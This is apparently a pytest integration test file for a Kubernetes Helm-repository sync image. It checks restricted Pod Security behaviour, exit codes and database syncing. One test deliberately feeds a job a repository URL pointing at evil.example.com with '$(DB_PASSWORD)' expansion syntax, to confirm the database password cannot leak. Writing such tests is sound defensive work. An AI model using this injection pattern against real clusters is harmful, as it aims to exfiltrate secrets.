"""The image in real Pods: under Pod Security "restricted", and beside a repository and a database."""

from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from catalog.model import SecretRef
from controller.flags import JobSettings
from controller.kinds.apprepository import parse
from controller.manifests import sync_job
from tests.cluster.fixtures import new_namespace
from tests.cluster.kube import Document, Kube
from tests.conftest import Database, until
from tests.fakes.helm_repo import HelmRepo, index, serving
from tests.fakes.relay import relayed

RESTRICTED = {
    "runAsNonRoot": True,
    "readOnlyRootFilesystem": True,
    "allowPrivilegeEscalation": False,
    "capabilities": {"drop": ["ALL"]},
    "seccompProfile": {"type": "RuntimeDefault"},
}


class Pods:
    """Runs Pods of the image in a namespace and tells how their container ended."""

    def __init__(self, kube: Kube, namespace: str, image: str) -> None:
        self.kube, self.namespace, self.image = kube, namespace, image

    def run(self, name: str, *command: str, env: Mapping[str, str] | None = None, **spec: Any) -> Document:
        """The terminated state of a Pod's container: exitCode, message."""
        container = {
            "name": "main",
            "image": self.image,
            "command": list(command),
            "env": [{"name": key, "value": value} for key, value in (env or {}).items()],
            "securityContext": RESTRICTED,
            "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"}],  # index bodies are spooled there
            "terminationMessagePolicy": "FallbackToLogsOnError",
        }
        metadata = {"name": name, "namespace": self.namespace}
        volumes = [{"name": "tmp", "emptyDir": {}}]
        given = {"restartPolicy": "Never", "automountServiceAccountToken": False, "volumes": volumes, "containers": [container], **spec}
        self.kube.create({"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": given})
        return until(f"{name} ends", lambda: self.end(name))

    def end(self, name: str) -> Document:
        statuses = self.kube.get("pods", name, self.namespace)["status"].get("containerStatuses", ())
        return next((status["state"]["terminated"] for status in statuses if "terminated" in status["state"]), {})

    def log(self, name: str) -> str:
        return self.kube.kubectl("-n", self.namespace, "logs", name).stdout


@pytest.fixture
def restricted(pod_cluster: Kube, image: str) -> Iterator[Pods]:
    with new_namespace(pod_cluster, **{"pod-security.kubernetes.io/enforce": "restricted"}) as namespace:
        yield Pods(pod_cluster, namespace, image)


@pytest.fixture
def pods(pod_cluster: Kube, pod_namespace: str, image: str) -> Pods:
    return Pods(pod_cluster, pod_namespace, image)


def test_the_image_runs_restricted_as_nobody_on_a_file_system_that_it_cannot_write(restricted: Pods) -> None:
    script = (
        "id -u; touch /x || touch /opt/chartfleet/x || touch /tmp/x && test -x /asset-syncer -a -x /apprepository-controller && echo so"
    )
    ended = restricted.run("who", "sh", "-c", script)
    assert ended["exitCode"] == 0, ended
    assert [line for line in restricted.log("who").splitlines() if "touch" not in line] == ["65532", "so"]


@pytest.mark.parametrize("command", [("/asset-syncer",), ("python", "-m", "worker")])
def test_a_worker_starts_restricted_and_says_how_it_is_called(restricted: Pods, command: tuple[str, ...]) -> None:
    assert restricted.run("help", *command, "--help")["exitCode"] == 0
    assert "usage: python -m worker sync NAME URL TYPE --namespace NS" in restricted.log("help")


def test_a_job_of_ours_runs_restricted_and_its_url_is_no_way_to_the_databases_password(restricted: Pods) -> None:
    url = "https://evil.example.com/$(DB_PASSWORD)/$$(DB_PASSWORD)"
    metadata = {"name": "demo", "namespace": restricted.namespace}
    desired = parse({"metadata": metadata, "spec": {"type": "helm", "url": url}}, lambda *_: "", "cluster")
    settings = JobSettings(
        restricted.image, sync_command="echo", namespace=restricted.namespace, database_secret=SecretRef("pg", "password")
    )
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {**metadata, "name": "pg"}, "stringData": {"password": "canary"}}
    restricted.kube.create(secret)
    restricted.kube.create(sync_job(desired, settings, "told", "first"))
    restricted.kube.kubectl("-n", restricted.namespace, "wait", "--for=condition=Complete", "job/told", "--timeout=60s")
    told = restricted.log("job/told")
    assert url in told
    assert "canary" not in told


def test_a_sync_without_a_database_in_reach_ends_as_one_that_may_be_tried_again(restricted: Pods) -> None:
    words = ("sync", "demo", "http://127.0.0.1:1/", "helm", "--namespace=default", "--database-url=127.0.0.1:1")
    ended = restricted.run("sync", "/asset-syncer", *words, "--database-user=x", "--database-name=x")
    assert ended["exitCode"] == 75, ended


def test_kubeapps_command_line_brings_a_repository_into_the_database(restricted: Pods, database: Database, host: str) -> None:
    listing = index({"nginx": [{"version": "1.0.0"}, {"version": "1.1.0"}]})
    with (
        serving(HelmRepo(index=listing)) as repo,
        relayed(int(repo.url.rpartition(":")[2]), host) as web,
        relayed(database.sockets / ".s.PGSQL.5432", host) as postgres,
    ):
        flags = (f"--database-url={host}:{postgres}", "--database-user=chartfleet_writer", f"--database-name={database.name}")
        words = ("sync", "demo", f"http://{host}:{web}", "helm", "--namespace=default", *flags)
        ended = restricted.run("sync", "/asset-syncer", *words, env={"DB_PASSWORD": "any"})
    assert ended["exitCode"] == 0, ended
    assert database.rows("select version from chartfleet.chart_versions order by 1") == [("1.0.0",), ("1.1.0",)]
